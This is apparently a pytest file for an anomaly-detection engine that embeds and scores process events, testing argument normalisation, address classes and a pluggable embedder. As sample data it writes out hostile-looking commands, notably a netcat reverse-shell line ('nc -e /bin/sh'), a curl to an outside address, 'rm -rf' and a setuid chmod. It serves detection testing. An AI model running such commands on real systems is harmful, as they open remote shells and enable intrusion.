from __future__ import annotations

import json
import subprocess
import sys

import numpy as np
import pytest

from core.event import ProcessEvent
from scoring.featurizer import get_embedder
from scoring.tokens import address_class, elevated_program, event_tokens, normalise_arg


def _event(args: tuple[str, ...], parent: str = "bash", uid: int = 0) -> ProcessEvent:
    return ProcessEvent(executable_name=args[0], command_line=" ".join(args), command_args=args,
                        parent_name=parent, user_id=uid)


@pytest.mark.parametrize("model", ["hash128-v1", "hash128-v2"])
def test_batch_becomes_unit_rows_of_128_float32(model):
    events = [_event(("ls", "-la", f"/home/u{i}")) for i in range(50)]
    matrix = get_embedder(model).embed(events)
    assert matrix.shape == (50, 128) and matrix.dtype == np.float32
    np.testing.assert_allclose(np.linalg.norm(matrix, axis=1), 1.0, rtol=1e-5)


@pytest.mark.parametrize("model", ["hash128-v1", "hash128-v2"])
def test_vectors_are_identical_in_another_process(model):
    """No salted hash(): a fresh interpreter with another PYTHONHASHSEED gives the same bits."""
    event = _event(("curl", "-s", "http://203.0.113.5:8080/a"))
    here = get_embedder(model).embed([event])[0]
    code = (
        "import json,sys; from core.event import ProcessEvent; from scoring.featurizer import get_embedder;"
        f"e=ProcessEvent(executable_name='curl', command_line={event.command_line!r}, "
        f"command_args={event.command_args!r}, parent_name='bash', user_id=0);"
        f"print(json.dumps(get_embedder({model!r}).embed([e])[0].tolist()))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True,
                         env={"PYTHONHASHSEED": "12345", "PATH": "/usr/bin:/bin"}).stdout
    np.testing.assert_array_equal(here, np.array(json.loads(out), dtype=np.float32))


def test_a_recurring_pattern_is_embedded_as_in_its_own_batch_and_callers_own_their_rows():
    events = [_event(("curl", "-s", "http://203.0.113.5:8080/a")), _event(("ls", "-la", "/srv"))]
    alone = [get_embedder("hash128-v2").embed([event])[0] for event in events]
    v2 = get_embedder("hash128-v2")
    first = v2.embed(events)  # computed, then kept
    first[:] = 0.0  # what a caller does to its rows does not reach the kept vectors
    again = v2.embed([events[1], events[0], events[1]])
    np.testing.assert_array_equal(again, np.stack([alone[1], alone[0], alone[1]]))


def test_v2_pattern_ignores_pids_temp_names_hex_ids_and_ephemeral_ports():
    v2 = get_embedder("hash128-v2")
    a = _event(("rm", "-rf", "/tmp/tmp.a8F3kqZ2", "--pid", "4242", "--id", "deadbeefcafe0042", "127.0.0.1:51234"))
    b = _event(("rm", "-rf", "/tmp/tmp.Q93jdkE1", "--pid", "977", "--id", "0123456789abcdef", "127.0.0.1:60001"))
    assert v2.pattern_keys([a]) == v2.pattern_keys([b])


def test_v2_keeps_well_known_ports_and_address_classes_apart():
    assert normalise_arg("10.1.2.3:22") != normalise_arg("10.1.2.3:443")
    assert normalise_arg("10.1.2.3:22") != normalise_arg("8.8.8.8:22")
    assert normalise_arg("/dev/shm/x")[1:] == ("arg:pathclass:shm",)


def test_one_extra_argument_shifts_every_v1_token_but_few_v2_tokens():
    base = ("tar", "czf", "/srv/backup/www.tgz", "/var/www", "/etc/nginx", "/etc/ssl")
    extra = ("tar", "-v", *base[1:])
    v1, v2 = get_embedder("hash128-v1"), get_embedder("hash128-v2")
    similarity_v1 = float(v1.embed([_event(base)])[0] @ v1.embed([_event(extra)])[0])
    similarity_v2 = float(v2.embed([_event(base)])[0] @ v2.embed([_event(extra)])[0])
    assert similarity_v2 > 0.95
    assert similarity_v2 > similarity_v1 + 0.1


def test_identity_and_argument_tokens_are_field_tagged():
    identity, arguments = event_tokens(_event(("sudo", "fish"), parent="sshd", uid=1000))
    assert "exe:sudo" in identity and "exe:fish" in identity  # the elevated program is part of identity
    assert "parent:sshd" in identity and "user:human" in identity
    assert arguments == ("arg:fish",)


def test_unknown_model_is_a_clear_error():
    with pytest.raises(ValueError, match="unknown model 'word2vec'"):
        get_embedder("word2vec")


def test_another_embedder_plugs_in_without_touching_store_or_scorer(tmp_path, monkeypatch):
    """The embedder is an interface: a different model (here 32 dims, character trigrams) just works."""
    from scoring.config import EngineConfig
    from scoring.engine import AnomalyEngine
    from scoring.featurizer import MODELS

    class Trigrams:
        name = "trigram32-test"
        dim = 32

        def pattern_keys(self, events):
            return [e.executable_name + "|" + e.command_line for e in events]

        def embed(self, events):
            return np.stack([self.embed_text(e.command_line) for e in events])

        def embed_text(self, text):
            vector = np.zeros(self.dim, np.float32)
            for i in range(max(1, len(text) - 2)):
                vector[sum(map(ord, text[i:i + 3])) % self.dim] += 1.0
            return vector / max(1e-9, float(np.linalg.norm(vector)))

    monkeypatch.setitem(MODELS, Trigrams.name, Trigrams)
    engine = AnomalyEngine(EngineConfig(baselines=str(tmp_path), model=Trigrams.name))
    routine = [_event(("ls", "-la", "/srv")) for _ in range(60)]
    engine.process(routine, workload="w")
    known, odd = engine.process([_event(("ls", "-la", "/srv")), _event(("nc", "-e", "/bin/sh", "x"))], workload="w")
    assert known.score < 0.1 and odd.score > 0.7 and odd.model == "trigram32-test"
    engine.close()
    reopened = AnomalyEngine(EngineConfig(baselines=str(tmp_path), model=Trigrams.name))
    assert reopened.process([_event(("ls", "-la", "/srv"))], workload="w", learn=False)[0].score < 0.1
    reopened.close()


def test_file_modes_are_kept_so_a_setuid_chmod_is_not_a_routine_one() -> None:
    embedder = get_embedder("hash128-v2")

    def event(program: str, *args: str) -> ProcessEvent:
        return ProcessEvent(program, " ".join((program, *args)), (program, *args))

    setuid, plain = embedder.pattern_keys([event("chmod", "4755", "/usr/local/bin/t"),
                                           event("chmod", "0755", "/usr/local/bin/t")])
    assert setuid != plain
    first, second = embedder.pattern_keys([event("kill", "4755"), event("kill", "9999")])
    assert first == second  # elsewhere numbers stay pids, normalised


@pytest.mark.parametrize(("address", "kind"), [
    ("203.0.113.9", "public"), ("198.51.100.23", "public"), ("192.0.2.10", "public"),  # stand for the internet
    ("2001:db8::1", "public"), ("10.0.0.5", "private"), ("169.254.169.254", "private"),
    ("localhost", "loopback"), ("db.localhost", "loopback"), ("127.0.0.1", "loopback"), ("example.org", "name"),
])
def test_documentation_addresses_are_public_and_localhost_is_loopback(address: str, kind: str) -> None:
    assert address_class(address) == kind


@pytest.mark.parametrize(("args", "program"), [
    (("sudo", "-u", "postgres", "psql", "-c", "VACUUM"), "psql"), (("sudo", "apt-get", "install", "jq"), "apt-get"),
    (("sudo", "-E", "-g", "adm", "tail", "/var/log/syslog"), "tail"), (("doas", "-u", "www", "sh"), "sh"),
    (("sudo", "-i"), ""),
])
def test_an_elevated_program_is_what_runs_not_whom_it_runs_as(args: tuple[str, ...], program: str) -> None:
    assert elevated_program(_event(args)) == program
